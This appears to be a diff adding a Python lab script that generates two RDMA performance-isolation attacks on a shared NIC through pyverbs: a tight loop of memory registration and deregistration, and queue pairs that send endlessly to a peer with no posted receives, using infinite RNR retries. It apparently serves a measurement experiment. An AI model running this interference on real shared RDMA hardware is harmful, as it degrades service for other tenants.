@@ -1,0 +1,77 @@
+"""Two attackers on a shared NIC, after Husky's kinds: control verbs in a loop, and receivers that are never ready.
+
+    /usr/bin/python3 lab/attacker.py control|rnr SECONDS GID_INDEX
+
+control: registers and deregisters 64 KiB of memory as fast as it can, on r0.
+rnr: sixteen queue pairs of r0 send to r1, where nobody has posted a receive; each is told to try again after 10 us, forever.
+Prints one line of JSON: operations per second over the whole time (rnr: none are ever done; what r1 refused is counted).
+"""
+import json
+import sys
+import time
+from pathlib import Path
+
+import pyverbs.enums as e
+from pyverbs.addr import AHAttr, GlobalRoute
+from pyverbs.cq import CQ
+from pyverbs.device import Context
+from pyverbs.mr import MR
+from pyverbs.pd import PD
+from pyverbs.qp import QP, QPAttr, QPCap, QPInitAttr
+from pyverbs.wr import SGE, SendWR
+
+SIZE = 64 << 10
+PAIRS = 16
+
+
+def control(end: float) -> int:
+    """Registrations done until then."""
+    pd = PD(Context(name="r0"))
+    done = 0
+    while time.monotonic() < end:
+        MR(pd, SIZE, e.IBV_ACCESS_LOCAL_WRITE | e.IBV_ACCESS_REMOTE_WRITE).close()
+        done += 1
+    return done
+
+
+def not_ready(end: float, gid_index: int) -> int:
+    """Times that r1 was not ready."""
+    counter = Path("/sys/class/infiniband/r1/ports/1/hw_counters/send_rnr_err")
+    ends = []
+    for name in ("r0", "r1"):
+        context = Context(name=name)
+        pd = PD(context)
+        queue = CQ(context, 64)
+        initial = QPInitAttr(qp_type=e.IBV_QPT_RC, scq=queue, rcq=queue, cap=QPCap(16, 16, 1, 1, 0))
+        pairs = [QP(pd, initial, QPAttr(port_num=1)) for _ in range(PAIRS)]
+        ends.append((context, pd, queue, MR(pd, SIZE, e.IBV_ACCESS_LOCAL_WRITE), pairs))
+    for mine, other in (ends, ends[::-1]):
+        for pair, partner in zip(mine[4], other[4]):
+            attributes = QPAttr(port_num=1)
+            attributes.path_mtu = e.IBV_MTU_4096
+            attributes.max_rd_atomic = attributes.max_dest_rd_atomic = 1
+            # Code 1 is a pause of 10 us; 7 tries again without end.
+            attributes.min_rnr_timer, attributes.timeout, attributes.retry_cnt, attributes.rnr_retry = 1, 18, 7, 7
+            route = GlobalRoute(dgid=other[0].query_gid(1, gid_index), sgid_index=gid_index)
+            attributes.ah_attr = AHAttr(port_num=1, is_global=1, gr=route, dlid=0)
+            attributes.dest_qp_num = partner.qp_num
+            pair.to_rts(attributes)
+    before = int(counter.read_text())
+    memory = ends[0][3]
+    for pair in ends[0][4]:
+        for _ in range(8):
+            pair.post_send(SendWR(opcode=e.IBV_WR_SEND, num_sge=1, sg=[SGE(memory.buf, 4096, memory.lkey)]))
+    time.sleep(max(0.0, end - time.monotonic()))
+    return int(counter.read_text()) - before
+
+
+def main() -> None:
+    """Attacks for a while."""
+    kind, seconds, gid_index = sys.argv[1], float(sys.argv[2]), int(sys.argv[3])
+    begin = time.monotonic()
+    done = control(begin + seconds) if kind == "control" else not_ready(begin + seconds, gid_index)
+    print(json.dumps({"operations_per_s": done / (time.monotonic() - begin)}))
+
+
+if __name__ == "__main__":
+    main()
